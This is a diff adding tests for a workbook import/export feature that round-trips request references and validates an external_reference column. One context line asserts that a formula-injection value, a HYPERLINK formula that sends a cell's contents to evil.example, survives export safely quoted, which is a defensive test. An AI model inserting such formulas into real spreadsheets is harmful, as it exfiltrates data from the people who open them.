@@ -264,3 +264,39 @@ def test_a_name_that_looks_like_a_formula_is_quoted_in_the_export_and_read_back_
     report = import_workbook(tmp_path / "out")
     assert report["directorates.csv"].updated == 0
     assert Directorate.objects.get(code="DCOM").name == '=HYPERLINK("http://evil.example/?d="&B2,"x")'
+
+
+def test_an_export_keeps_both_references_and_imports_back_unchanged(tmp_path):
+    from kpis.importing.export import export_workbook
+
+    import_workbook(
+        write_folder(
+            tmp_path / "in", with_requests("INC0012345,2026-03-02 09:15,email,,DCOM-GC,,simple,0,0,,,,\n")
+        )
+    )
+    request = Request.objects.get(external_reference="INC0012345")
+    export_workbook(tmp_path / "out.xlsx")
+    report = import_workbook(tmp_path / "out.xlsx")
+    assert (report["out.xlsx[requests]"].created, report["out.xlsx[requests]"].updated) == (0, 0)
+    assert Request.objects.get(external_reference="INC0012345").reference == request.reference
+    # Into an empty portal, the export recreates the request with both numbers.
+    Request.objects.all().delete()
+    import_workbook(tmp_path / "out.xlsx")
+    again = Request.objects.get(reference=request.reference)
+    assert again.external_reference == "INC0012345"
+
+
+def test_an_external_reference_column_must_agree_with_the_reference(tmp_path):
+    header = HEADER.rstrip("\n") + ",external_reference\n"
+    files = dict(GOOD)
+    files["requests"] = (
+        header + "DEM-1,2026-03-02,email,,,,simple,0,0,,,,,DEM-2\n"
+        "REQ-2026-000001,2026-03-02,email,,,,simple,0,0,,,,,DEM-3\n"
+        "DEM-3,2026-03-02,email,,,,simple,0,0,,,,,\n"
+    )
+    with pytest.raises(ImportFailed) as failure:
+        import_workbook(write_folder(tmp_path / "in", files))
+    assert [str(e) for e in failure.value.errors] == [
+        "requests.csv:2: external_reference: différente de la référence 'DEM-1'",
+        "requests.csv:4: external_reference: référence externe 'DEM-3' déjà présente ligne 3",
+    ]
